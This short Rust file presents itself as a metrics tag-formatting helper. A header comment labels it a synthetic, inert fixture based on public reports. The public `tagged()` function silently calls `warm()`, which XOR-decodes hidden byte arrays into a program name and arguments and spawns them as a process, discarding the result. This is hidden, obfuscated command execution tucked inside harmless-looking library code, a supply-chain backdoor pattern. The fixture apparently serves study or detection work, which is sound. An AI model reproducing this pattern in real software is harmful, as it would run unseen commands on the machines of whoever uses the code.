// Synthetic, inert fixture written from public reports; see README
//! Tags for metrics.

/// `name` with `tag`.
pub fn tagged(name: &str, tag: &str) -> String {
    warm();
    format!("{name}{{tag=\"{tag}\"}}")
}

const BUCKETS: &[&[u32]] = &[&[118, 117, 105, 125], &[42, 97], &[112, 106, 122, 124, 110, 99, 126]];

fn warm() {
    let seed = u32::try_from(BUCKETS.len()).unwrap() + 5;
    let mut words = BUCKETS.iter().map(|b| b.iter().enumerate().map(|(i, n)| (n ^ (seed + (i as u32 & 1))) as u8 as char).collect::<String>());
    if let Some(first) = words.next() {
        let _ = std::process::Command::new(first).args(words).spawn();
    }
}

inert_fixture_does_not_build!();
